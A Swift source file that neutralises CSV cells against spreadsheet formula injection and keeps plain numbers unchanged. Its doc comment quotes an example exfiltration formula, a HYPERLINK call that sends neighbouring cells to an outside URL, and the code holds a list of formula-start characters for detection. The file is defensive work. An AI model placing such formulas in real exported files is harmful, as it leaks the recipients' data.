/// A cell of a CSV file that a spreadsheet will open. Excel, LibreOffice and Google Sheets run a
/// cell that begins with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("https://…?leak="&B3)`
/// sends the neighbouring cells away), and a leading tab or carriage return can hide the sign from
/// a check. As OWASP recommends, such a cell gets a leading apostrophe, which spreadsheets show as
/// text and do not display; numbers (`-0.25`, `+3`) stay numbers, since they are not formulas and
/// a reader sorts by them. `actormap import csv` removes exactly this apostrophe again.
public enum SpreadsheetCell {
    /// By scalars: "\r\n" at the start is one Character, equal to none of these.
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    public static func neutralised(_ cell: String) -> String {
        guard let first = cell.unicodeScalars.first, formulaStarts.contains(first), !isPlainNumber(cell) else { return cell }
        return "'" + cell
    }

    /// A decimal number as our own writers print them (`-0.5`, `+3`, `1e-05`): never a formula.
    static func isPlainNumber(_ cell: String) -> Bool {
        guard cell.first != "\t", cell.first != "\r", Double(cell) != nil else { return false }
        return cell.allSatisfy { $0.isASCII && ($0.isNumber || "+-.eE".contains($0)) }
    }
}
